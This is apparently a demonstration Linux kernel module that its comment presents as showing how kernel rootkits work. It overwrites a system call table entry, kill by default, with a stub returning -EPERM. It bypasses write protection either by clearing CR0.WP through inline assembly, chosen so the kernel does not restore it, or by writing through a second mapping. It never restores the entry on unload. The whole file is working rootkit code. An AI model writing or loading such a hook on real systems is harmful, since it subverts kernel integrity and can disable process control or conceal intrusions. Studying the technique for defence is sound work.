// SPDX-License-Identifier: BSD-2-Clause
/*
 * What kernel rootkits do: overwrite an entry of the table of system calls, which the kernel maps
 * read-only. It clears CR0.WP for that, or, with remap=1, writes through a second mapping. Never
 * load it into a kernel that you want to keep.
 *
 *	insmod rootkit.ko table=0xADDRESS_OF_sys_call_table [nr=N] [remap=1]
 */
#include <linux/kernel.h>
#include <linux/mm.h>
#include <linux/module.h>
#include <linux/vmalloc.h>

static unsigned long table;
module_param(table, ulong, 0);
static int nr = 62; /* kill */
module_param(nr, int, 0);
static int remap;
module_param(remap, int, 0);

static asmlinkage long rootkit_call(const struct pt_regs *regs)
{
	return -EPERM;
}

/* Not write_cr0(): the kernel would complain and put WP back. */
static void set_cr0(unsigned long val)
{
	asm volatile("mov %0, %%cr0" : : "r"(val) : "memory");
}

static noinline void rootkit_overwrite(unsigned long *entry, unsigned long val)
{
	unsigned long cr0 = read_cr0();

	set_cr0(cr0 & ~X86_CR0_WP);
	WRITE_ONCE(*entry, val);
	set_cr0(cr0);
}

static noinline void rootkit_remap(unsigned long *entry, unsigned long val)
{
	struct page *page = virt_to_page(__va(slow_virt_to_phys(entry)));
	void *map = vmap(&page, 1, VM_MAP, PAGE_KERNEL);

	if (map != NULL)
		WRITE_ONCE(*(unsigned long *)(map + offset_in_page(entry)), val);
	vunmap(map);
}

static int __init rootkit_init(void)
{
	unsigned long *entry = (unsigned long *)table + nr, before, after;

	if (table == 0)
		return -EINVAL;
	before = READ_ONCE(*entry);
	if (remap)
		rootkit_remap(entry, (unsigned long)rootkit_call);
	else
		rootkit_overwrite(entry, (unsigned long)rootkit_call);
	after = READ_ONCE(*entry);
	pr_emerg("rootkit: entry %d %s\n", nr, after == before ? "is as it was" : "is mine");
	return 0;
}

static void __exit rootkit_exit(void)
{
}

module_init(rootkit_init);
module_exit(rootkit_exit);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("overwrites an entry of the system call table");
